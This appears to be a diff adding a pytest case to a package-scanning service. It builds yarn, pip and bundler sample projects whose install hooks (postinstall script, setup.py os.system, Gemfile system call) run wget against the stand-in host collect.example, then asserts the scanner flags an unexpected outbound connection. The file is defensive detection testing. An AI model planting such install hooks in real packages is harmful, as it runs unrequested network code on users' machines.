@@ -134,3 +134,33 @@ def test_a_bad_archive_is_a_scan_that_failed(server: Server, tmp_path: Path) -> 
     assert found["reason"]
     info = httpx.get(f"{server.url}/api/v1/scans/{found['id']}", trust_env=False).json()
     assert info["exit_code"] == 3
+
+
+CONTACT = "wget -qO- --tries=1 http://collect.example/x || true"
+GEMFILE = 'source "https://gems.example/"\ngem "caller", path: "caller"\nsystem("wget -qO- --tries=1 http://collect.example/x")\n'
+PROJECTS = {
+    "yarn": {
+        "package.json": json.dumps({"name": "a", "version": "1.0.0", "scripts": {"postinstall": CONTACT}}),
+        "yarn.lock": "# yarn lockfile v1\n\n\n",
+    },
+    "pip": {
+        "setup.py": f"import os\nos.system({CONTACT!r})\nimport setuptools\nsetuptools.setup(name='a', version='1')\n"
+    },
+    "bundler": {
+        "Gemfile": GEMFILE,
+        "caller/caller.gemspec": "Gem::Specification.new { |s| s.name = 'caller'; s.version = '1'; s.summary = 's'; s.authors = ['a']; s.files = [] }\n",  # noqa: E501
+    },
+}
+
+
+@pytest.mark.parametrize("manager", PROJECTS)
+def test_the_other_managers(server: Server, tmp_path: Path, manager: str) -> None:
+    for name, text in PROJECTS[manager].items():
+        (tmp_path / "p" / name).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / "p" / name).write_text(text)
+    archive = tmp_path / "t.tgz"
+    subprocess.run(["tar", "-C", tmp_path / "p", "-czf", archive, "."], check=True)
+    found = _ended(server, _submit(server.url, archive, manager))
+    assert found["status"] == "finished", found.get("reason")
+    contacted = [e for e in found["result"] if e["rule"] == "Unexpected outbound connection destination"]
+    assert any("wget" in e["output_fields"]["proc.cmdline"] for e in contacted)
